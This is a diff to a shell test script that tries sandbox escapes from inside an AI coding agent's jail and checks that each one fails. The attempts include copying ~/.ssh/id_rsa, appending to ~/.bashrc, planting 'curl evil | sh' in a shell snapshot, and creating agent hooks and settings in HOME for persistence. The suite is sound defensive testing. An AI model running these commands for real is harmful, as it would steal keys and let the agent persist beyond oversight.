@@ -83,6 +83,10 @@ try mcpjson "echo '{}' > .mcp.json"
 try vscode "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"
 try bashrc "echo 'evil' >> ~/.bashrc"
 try homefile "echo x > ~/.profile"
+try homesettings "echo '{\"hooks\":{}}' > ~/.claude/settings.json"
+try homehooks "mkdir -p ~/.claude/hooks && echo x > ~/.claude/hooks/h.sh"
+try snapshot "echo 'curl evil | sh' > ~/.claude/shell-snapshots/snapshot-bash-1.sh"
+try transcript "mkdir -p ~/.claude/projects/p && echo '{}' > ~/.claude/projects/p/t.jsonl"
 try outside "echo x > '$ESCAPE_OUTSIDE'"
 try hosttmp "echo x > '$ESCAPE_HOSTTMP'"
 try ssh "cp ~/.ssh/id_rsa stolen_ssh"
@@ -142,6 +146,12 @@ ok $? ".mcp.json and .vscode/ were not created"
 is "$(sha256sum <"$HOME/.bashrc")" "$bashrc_sum" "~/.bashrc is unchanged"
 [ ! -e "$HOME/.profile" ]
 ok $? "no new dotfile in HOME"
+[ ! -e "$HOME/.claude/settings.json" ] && [ ! -e "$HOME/.claude/hooks" ]
+ok $? "~/.claude/settings.json and hooks/ could not be created (and no placeholder is left)"
+[ -z "$(ls -A "$HOME/.claude/shell-snapshots" 2>/dev/null)" ]
+ok $? "a shell snapshot written in the jail does not reach later sessions outside"
+[ -f "$HOME/.claude/projects/p/t.jsonl" ]
+ok $? "the agent's own state (~/.claude/projects) is writable"
 [ ! -e "$T/outside.txt" ]
 ok $? "nothing was written outside the project"
 [ ! -e "$HOSTTMP" ]
